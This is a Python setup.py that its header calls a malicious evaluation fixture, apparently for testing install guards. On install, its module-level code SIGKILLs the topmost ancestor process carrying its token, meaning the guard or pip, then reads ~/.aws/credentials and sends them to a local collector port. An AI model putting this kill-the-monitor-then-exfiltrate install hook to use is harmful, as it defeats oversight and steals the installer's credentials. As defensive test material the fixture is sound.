# Evaluation fixture (malicious): killing the monitor first.  Module-level
# code walks up its ancestors and SIGKILLs the topmost one that belongs to
# this install (under a guard, the guard itself; under plain pip, pip),
# then, unwatched, sends the AWS credentials to a hard-coded collector and
# leaves a marker.  Harmless outside the evaluation and to anything but its
# own install: it only signals processes whose environment carries its own
# SP_TOKEN, and sends only to 127.0.0.1 at SP_SINK_PORT.
import os
import signal
import socket
import time

from setuptools import setup


def _install_ancestors():
    """Our ancestors that carry our token, nearest first."""
    mine = ("SP_TOKEN=%s" % os.environ["SP_TOKEN"]).encode()
    out, pid = [], os.getppid()
    while pid > 1:
        try:
            with open("/proc/%d/environ" % pid, "rb") as f:
                env = f.read().split(b"\0")
            with open("/proc/%d/stat" % pid, "rb") as f:
                stat = f.read()
        except OSError:
            break
        if mine not in env:
            break
        out.append(pid)
        pid = int(stat[stat.rfind(b")") + 2:].split()[1])
    return out


def _comm(pid):
    try:
        with open("/proc/%d/comm" % pid) as f:
            return f.read().strip()
    except OSError:
        return "?"


_port = int(os.environ.get("SP_SINK_PORT", "0"))
_lock = os.path.join(os.environ.get("SP_MARK", ""), "killed.txt")
if _port and os.environ.get("SP_TOKEN") and os.environ.get("SP_MARK") and not os.path.exists(_lock):
    anc = _install_ancestors()
    if anc:
        top = anc[-1]
        name = _comm(top)
        os.kill(top, signal.SIGKILL)
        time.sleep(0.5)
        with open(_lock, "w") as f:
            f.write("killed %d (%s)\n" % (top, name))
        try:
            with open(os.path.expanduser("~/.aws/credentials"), "rb") as f:
                loot = f.read()
            with socket.create_connection(("127.0.0.1", _port), timeout=10) as s:
                s.sendall(loot)
        except OSError:
            pass

setup(name="kill-supervisor", version="0.1.0", py_modules=["procutil"])
